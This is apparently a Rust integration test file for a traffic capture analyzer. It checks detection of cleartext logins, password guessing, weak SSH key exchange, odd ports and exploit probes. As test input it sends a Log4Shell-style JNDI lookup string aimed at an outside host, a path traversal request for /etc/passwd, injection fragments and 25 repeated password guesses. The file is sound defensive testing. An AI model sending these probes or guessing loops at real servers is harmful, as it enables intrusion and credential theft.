//! Applications with real clients: curl, ssh and Python against servers that say what they are told to, sshd and Python's
//! own. What is found, what is not, and that nothing of a password is in any answer.

use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    net::{SocketAddr, TcpListener},
    path::Path,
    process::{Child, Command, Stdio},
    thread,
};

use capture_tests::{
    TIMEOUT, agent, eventually,
    netns::{HOST_IF, Lab, PEER4},
    output,
};

const USER: &str = "hugo";
const PASSWORD: &str = "hunter2-secret";

/// The user and the password, as they are and as base 64 has them, alone and with each other.
const SECRETS: [&str; 5] = [
    USER,
    PASSWORD,
    "aHVnbzpodW50ZXIyLXNlY3JldA",
    "AGh1Z28AaHVudGVyMi1zZWNyZXQ",
    "aHVudGVyMi1zZWNyZXQ",
];

/// Findings of a capture as the command says them: their codes, and all of the text.
struct Found {
    codes: Vec<String>,
    summaries: String,
    text: String,
}

/// Captures what the work does, and analyzes it in every form there is.
fn found(lab: &Lab, work: impl FnOnce()) -> Found {
    let arguments = [
        "-i",
        HOST_IF,
        "--hook",
        "tc",
        "--protocol",
        "tcp",
        "-w",
        "o.pcapng",
    ];
    let running = agent::capture(&lab.host, &arguments);
    work();
    let ended = running.stop();
    let analyze = |form: &str| {
        let mut command = Command::new(agent::binary());
        output(command.args(["analyze", "-o", form]).arg(ended.file()))
    };
    let json = analyze("json");
    let report: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    let findings = report["findings"].as_array().expect("findings");
    let codes = findings.iter().map(|finding| finding["code"].as_str());
    let codes = codes.map(|code| code.expect("a code").to_owned());
    let mut codes: Vec<_> = codes.filter(|code| !code.starts_with("capture.")).collect();
    codes.sort();
    let summaries = findings
        .iter()
        .map(|finding| format!("{}\n", finding["summary"]));
    Found {
        codes,
        summaries: summaries.collect(),
        text: json + &analyze("table"),
    }
}

impl Found {
    fn is(&self, codes: &[&str]) {
        assert_eq!(self.codes, codes, "{}", self.summaries);
        for secret in SECRETS {
            assert!(!self.text.contains(secret), "{secret} in {}", self.text);
        }
    }

    fn says(&self, words: &str) {
        assert!(
            self.summaries.contains(words),
            "{words} in {}",
            self.summaries
        );
    }
}

fn address(port: u16) -> SocketAddr {
    SocketAddr::new(PEER4.parse().expect("an address"), port)
}

/// A server of lines at the peer: what it says first, and to each line. It ends with the test.
fn serve(lab: &Lab, port: u16, greeting: &'static str, answer: fn(&str) -> &'static str) {
    let listener = lab
        .peer
        .within(|| TcpListener::bind(address(port)).expect("the server binds"));
    thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.expect("a connection comes in");
            thread::spawn(move || {
                let mut lines = BufReader::new(stream.try_clone().expect("a copy")).lines();
                let mut is_open = stream.write_all(greeting.as_bytes()).is_ok();
                while let (true, Some(Ok(line))) = (is_open, lines.next()) {
                    is_open = stream.write_all(answer(&line).as_bytes()).is_ok();
                }
            });
        }
    });
}

/// Runs curl at the host. How it ends does not matter.
fn curl(lab: &Lab, arguments: &[&str]) {
    let mut curl = lab.host.command("curl");
    curl.args(["-s", "-S", "--noproxy", "*", "-m", "20"])
        .args(arguments);
    let done = curl.output().expect("curl starts");
    eprint!("{}", String::from_utf8_lossy(&done.stderr));
}

/// A program at the peer, which is killed in the end.
struct Server(Child);

impl Server {
    fn start(lab: &Lab, command: &mut Command, port: u16) -> Self {
        command.stdin(Stdio::null()).stdout(Stdio::null());
        let server = Self(command.spawn().expect("the server starts"));
        let text = format!("sport = :{port}");
        let listens = || !output(lab.peer.command("ss").args(["-Hltn", &text])).is_empty();
        assert!(eventually(TIMEOUT, listens), "nothing listens on {port}");
        server
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn python(lab: &Lab, directory: &Path, port: u16) -> Server {
    let mut command = lab.peer.command("/usr/bin/python3");
    let port_text = port.to_string();
    command
        .args(["-m", "http.server", &port_text, "-d"])
        .arg(directory);
    command.stderr(Stdio::null());
    Server::start(lab, &mut command, port)
}

fn login(line: &str) -> &'static str {
    let verb = line.split(' ').next().unwrap_or_default();
    match verb {
        "USER" => "331 Password please\r\n",
        "PASS" => "530 Login incorrect.\r\n",
        _ => "500 What?\r\n",
    }
}

fn anonymous(line: &str) -> &'static str {
    match login(line) {
        "530 Login incorrect.\r\n" => "230 Welcome\r\n",
        other => other,
    }
}

fn pop3(line: &str) -> &'static str {
    match line.split(' ').next().unwrap_or_default() {
        "USER" => "+OK\r\n",
        _ => "-ERR no\r\n",
    }
}

fn imap(line: &str) -> &'static str {
    let mut words = line.split(' ');
    match (words.next(), words.next()) {
        (Some("A001"), Some("CAPABILITY")) => "* CAPABILITY IMAP4rev1\r\nA001 OK\r\n",
        (Some("A002"), _) => "A002 NO wrong\r\n",
        _ => "* BAD\r\n",
    }
}

fn smtp(line: &str) -> &'static str {
    match line.split(' ').next().unwrap_or_default() {
        "EHLO" => "250-mail\r\n250 AUTH PLAIN\r\n",
        "AUTH" if line.len() > 12 => "535 5.7.8 wrong\r\n",
        "AUTH" => "334 \r\n",
        "QUIT" => "221 Bye\r\n",
        _ if line.len() > 12 => "535 5.7.8 wrong\r\n",
        _ => "500 What?\r\n",
    }
}

#[test]
fn passwords_of_mail_and_files() {
    let lab = Lab::new();
    serve(&lab, 21, "220 Files\r\n", login);
    serve(&lab, 110, "+OK ready\r\n", pop3);
    serve(&lab, 143, "* OK ready\r\n", imap);
    serve(&lab, 25, "220 mail\r\n", smtp);
    let user = format!("{USER}:{PASSWORD}");
    let found = found(&lab, || {
        for url in [
            "ftp://10.0.0.2/a",
            "pop3://10.0.0.2/1",
            "imap://10.0.0.2/INBOX",
        ] {
            curl(&lab, &["-u", &user, url]);
        }
        let mail = [
            "--mail-from",
            "a@b",
            "--mail-rcpt",
            "c@d",
            "-T",
            "/etc/hostname",
        ];
        curl(
            &lab,
            &[&["-u", &user, "smtp://10.0.0.2/"][..], &mail].concat(),
        );
    });
    found.is(&["cred.cleartext"; 4]);
    for name in ["FTP", "POP3", "IMAP", "SMTP"] {
        found.says(&format!("by {name} without encryption"));
    }
}

#[test]
fn an_anonymous_login() {
    let lab = Lab::new();
    serve(&lab, 21, "220 Files\r\n", anonymous);
    found(&lab, || curl(&lab, &["ftp://10.0.0.2/a"])).is(&[]);
}

#[test]
fn guessing_of_passwords() {
    let lab = Lab::new();
    serve(&lab, 21, "220 Files\r\n", login);
    let found = found(&lab, || {
        for number in 0..25 {
            curl(
                &lab,
                &[
                    "-u",
                    &format!("{USER}:{PASSWORD}{number}"),
                    "ftp://10.0.0.2/a",
                ],
            );
        }
    });
    found.is(&["auth.bruteforce", "cred.cleartext"]);
    found.says("failed to log in to FTP of 10.0.0.2 port 21 25 times");
}

#[test]
fn a_web_server() {
    let lab = Lab::new();
    let directory = tempfile::tempdir().expect("a directory");
    // A page about attacks, which is none.
    let page = "${jndi:ldap://a/b} ../../../etc/passwd union select <script>\n".repeat(1000);
    fs::write(directory.path().join("page.html"), page).expect("a page");
    let _server = python(&lab, directory.path(), 8000);
    let ordinary = found(&lab, || {
        curl(
            &lab,
            &[
                "http://10.0.0.2:8000/page.html",
                "http://10.0.0.2:8000/favicon.ico",
            ],
        );
        curl(&lab, &["http://10.0.0.2:8000/page.html?[1-10]"]);
    });
    ordinary.is(&[]);
    let missing = found(&lab, || {
        curl(&lab, &["http://10.0.0.2:8000/not/here/[1-30]"])
    });
    missing.is(&["http.errors"]);
    missing.says("10.0.0.2 port 8000 answered 30 of 30 HTTP requests of 10.0.0.1");
    let user = format!("{USER}:{PASSWORD}");
    let basic = found(&lab, || {
        curl(&lab, &["-u", &user, "http://10.0.0.2:8000/page.html"])
    });
    basic.is(&["cred.cleartext"]);
    let attack = found(&lab, || {
        curl(
            &lab,
            &[
                "-A",
                "${jndi:ldap://192.0.2.1/a}",
                "http://10.0.0.2:8000/page.html",
            ],
        );
        curl(
            &lab,
            &["--path-as-is", "http://10.0.0.2:8000/../../../etc/passwd"],
        );
    });
    attack.is(&["exploit.probe"]);
}

#[test]
fn a_web_server_on_the_port_of_another() {
    let lab = Lab::new();
    let directory = tempfile::tempdir().expect("a directory");
    let _server = python(&lab, directory.path(), 22);
    found(&lab, || curl(&lab, &["http://10.0.0.2:22/"])).is(&["service.odd_port"]);
}

/// sshd with settings of its own, and what ssh makes of it with others.
fn ssh(lab: &Lab, port: u16, server: &str, client: &[&str]) -> Found {
    let directory = tempfile::tempdir().expect("a directory");
    let (key, config) = (
        directory.path().join("key"),
        directory.path().join("config"),
    );
    output(
        Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(&key),
    );
    let pid = directory.path().join("pid");
    let text = format!(
        "HostKey {}\nPidFile {}\nUsePAM no\nPasswordAuthentication no\n{server}\n",
        key.display(),
        pid.display()
    );
    fs::write(&config, text).expect("a configuration");
    // sshd wants its directory; it is kept from others by being root's.
    fs::create_dir_all("/run/sshd").expect("a directory");
    let mut command = lab.peer.command("/usr/sbin/sshd");
    command
        .args(["-D", "-e", "-p", &port.to_string(), "-f"])
        .arg(config);
    let _server = Server::start(lab, command.stderr(Stdio::null()), port);
    found(lab, || {
        let mut ssh = lab.host.command("ssh");
        ssh.args([
            "-F",
            "none",
            "-o",
            "BatchMode=yes",
            "-o",
            "StrictHostKeyChecking=no",
        ]);
        ssh.args([
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "IdentityAgent=none",
        ]);
        ssh.args(["-p", &port.to_string()])
            .args(client)
            .args(["nobody@10.0.0.2", "true"]);
        ssh.output().expect("ssh starts");
    })
}

#[test]
fn an_old_key_exchange_of_ssh() {
    let lab = Lab::new();
    let weak = "diffie-hellman-group-exchange-sha1";
    let server = format!("KexAlgorithms +{weak}");
    let found = ssh(&lab, 22, &server, &["-o", &format!("KexAlgorithms={weak}")]);
    found.is(&["crypto.weak"]);
    found.says(weak);
}

#[test]
fn ssh_as_it_comes() {
    let lab = Lab::new();
    // That the server would take something weak is of no consequence.
    let server = "KexAlgorithms +diffie-hellman-group1-sha1";
    ssh(&lab, 22, server, &[]).is(&[]);
    ssh(&lab, 443, server, &[]).is(&["service.odd_port"]);
}
